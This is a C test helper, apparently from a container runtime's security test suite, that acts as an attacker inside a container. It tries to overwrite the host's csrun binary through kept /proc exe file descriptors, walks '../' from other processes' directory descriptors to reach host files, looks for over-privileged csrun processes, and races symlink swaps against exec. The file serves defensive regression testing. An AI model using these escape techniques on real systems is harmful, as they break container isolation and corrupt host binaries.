/* The attacker inside the container, for Security/HostReachTests. Built static by the test and
 * copied into the image. Modes:
 *   hunt DEV INO MARKER GO OUT   until the file GO exists: scan every /proc/<pid> but our own;
 *       keep an O_PATH fd of each exe whose device and inode are DEV:INO (the csrun binary on
 *       the host), try to open it for writing at once, and walk `..` from every directory fd of
 *       every process towards MARKER (a path relative to the host's root that exists only on
 *       the host), and report any csrun process holding capabilities beyond our bounding set
 *       (one we could ptrace to use them). Once GO exists (the host says every csrun has
 *       exited), write through each kept fd. The report goes to OUT: counts and one line per
 *       success.
 *   swap TARGET REAL             rename a binary and a symlink to /proc/self/exe over TARGET in
 *       turn, forever (the check-then-exec race).
 * A line starting with "BREACH" in OUT means the host, or csrun's privileges, were reached. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_KEPT 4096

static int kept[MAX_KEPT];
static int nkept;
static long scans, exe_matches, dir_fds;
static FILE *out;

static int is_target(int fd, dev_t dev, ino_t ino)
{
    struct stat st;
    return fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino;
}

static void try_exe(const char *pid, dev_t dev, ino_t ino)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) return;
    if (!is_target(fd, dev, ino)) { close(fd); return; }
    exe_matches++;
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w >= 0) { fprintf(out, "BREACH opened %s for writing\n", path); close(w); }
    if (nkept < MAX_KEPT) kept[nkept++] = fd; else close(fd);
}

/* A capability mask from /proc/<pid>/status ("CapEff:", "CapBnd:"), or 0. */
static unsigned long long caps(const char *pid, const char *field)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    unsigned long long v = 0;
    size_t n = strlen(field);
    while (fgets(line, sizeof line, f))
        if (!strncmp(line, field, n)) { v = strtoull(line + n, NULL, 16); break; }
    fclose(f);
    return v;
}

/* A process of csrun's (comm "csrun") holding capabilities the container cannot have: one it
 * could ptrace (with CAP_SYS_PTRACE) to act with them. */
static void try_caps(const char *pid, unsigned long long bounding)
{
    char path[64], comm[32] = "";
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    FILE *f = fopen(path, "r");
    if (!f) return;
    if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
    fclose(f);
    if (strncmp(comm, "csrun", 5)) return;
    unsigned long long eff = caps(pid, "CapEff:");
    if (eff & ~bounding) fprintf(out, "BREACH csrun process %s visible with capabilities %llx beyond the container's %llx\n", pid, eff, bounding);
}

static void try_fds(const char *pid, const char *marker)
{
    char path[64], walk[4096];
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *d = opendir(path);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d)))
    {
        if (e->d_name[0] == '.') continue;
        char fdpath[128];
        snprintf(fdpath, sizeof fdpath, "/proc/%s/fd/%s", pid, e->d_name);
        int fd = open(fdpath, O_PATH | O_CLOEXEC);
        if (fd < 0) continue;
        struct stat st;
        if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))
        {
            dir_fds++;
            size_t n = 0;
            for (int i = 0; i < 40; i++) n += (size_t)snprintf(walk + n, sizeof walk - n, "../");
            snprintf(walk + n, sizeof walk - n, "%s", marker);
            int m = openat(fd, walk, O_RDONLY | O_CLOEXEC);
            if (m >= 0) { fprintf(out, "BREACH reached the host's %s through %s\n", marker, fdpath); close(m); }
        }
        close(fd);
    }
    closedir(d);
}

static int hunt(dev_t dev, ino_t ino, const char *marker, const char *go)
{
    char self[32];
    snprintf(self, sizeof self, "%d", getpid());
    unsigned long long bounding = caps("self", "CapBnd:");
    while (access(go, F_OK) != 0)
    {
        DIR *d = opendir("/proc");
        if (!d) return 2;
        struct dirent *e;
        while ((e = readdir(d)))
        {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || !strcmp(e->d_name, self)) continue;
            try_exe(e->d_name, dev, ino);
            try_caps(e->d_name, bounding);
            try_fds(e->d_name, marker);
        }
        closedir(d);
        scans++;
    }
    long written = 0;
    for (int i = 0; i < nkept; i++)
    {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        int w = open(path, O_WRONLY | O_CLOEXEC);
        if (w < 0) continue;
        if (write(w, "pwned", 5) == 5) written++;
        close(w);
    }
    if (written) fprintf(out, "BREACH wrote the host binary through %ld kept fds\n", written);
    fprintf(out, "scans=%ld exe_matches=%ld kept=%d dir_fds=%ld\n", scans, exe_matches, nkept, dir_fds);
    return 0;
}

static int swap(const char *target, const char *real)
{
    char tmp_bin[4096], tmp_link[4096];
    snprintf(tmp_bin, sizeof tmp_bin, "%s.bin", target);
    snprintf(tmp_link, sizeof tmp_link, "%s.link", target);
    for (;;)
    {
        unlink(tmp_link);
        if (symlink("/proc/self/exe", tmp_link) == 0) rename(tmp_link, target);
        unlink(tmp_bin);
        if (link(real, tmp_bin) == 0) rename(tmp_bin, target);
    }
}

int main(int argc, char **argv)
{
    if (argc == 7 && !strcmp(argv[1], "hunt"))
    {
        out = fopen(argv[6], "w");
        if (!out) return 2;
        setvbuf(out, NULL, _IOLBF, 0);
        int r = hunt((dev_t)strtoull(argv[2], NULL, 10), (ino_t)strtoull(argv[3], NULL, 10), argv[4], argv[5]);
        fclose(out);
        return r;
    }
    if (argc == 4 && !strcmp(argv[1], "swap")) return swap(argv[2], argv[3]);
    fprintf(stderr, "usage: hunter hunt DEV INO MARKER GO OUT | swap TARGET REAL\n");
    return 2;
}
